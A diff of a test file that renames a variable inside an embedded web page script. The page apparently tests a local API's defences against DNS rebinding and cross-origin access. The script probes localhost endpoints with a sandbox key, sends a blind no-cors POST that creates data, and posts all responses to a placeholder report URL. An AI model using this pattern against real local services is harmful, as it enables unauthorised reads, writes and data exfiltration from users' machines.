@@ -302,27 +302,27 @@ def test_repr_does_not_contain_api_key(start: Start) -> None:
 # --- web pages ---------------------------------------------------------------------
 
 PAGE = """<script>
-const key = {Authorization: "Bearer llx-sandbox"}, said = {};
+const key = {Authorization: "Bearer llx-sandbox"}, results = {};
 async function ask(name, url, options) {
   try {
     const answer = await fetch(url, options);
-    said[name] = [answer.type, answer.status, await answer.text()];
+    results[name] = [answer.type, answer.status, await answer.text()];
   } catch (error) {
-    said[name] = ["refused by the browser"];
+    results[name] = ["refused by the browser"];
   }
 }
 async function main() {
   do {  // until the name resolves to the sandbox
     await new Promise(done => setTimeout(done, 50));
     await ask("rebound", "/api/v2/batches", {headers: key});
-  } while (said.rebound.length < 3);
+  } while (results.rebound.length < 3);
   for (const host of ["127.0.0.1", "localhost"]) {
     const url = `http://${host}:${location.port}/api/v1/beta/directories`;
     await ask(`${host}`, url);
     await ask(`${host} with the key`, url, {headers: key});
     await ask(`${host} blindly`, url, {mode: "no-cors", method: "POST", body: '{"name": "New"}'});
   }
-  await fetch("REPORT", {mode: "no-cors", method: "POST", body: JSON.stringify(said)});
+  await fetch("REPORT", {mode: "no-cors", method: "POST", body: JSON.stringify(results)});
 }
 main();
 </script>"""
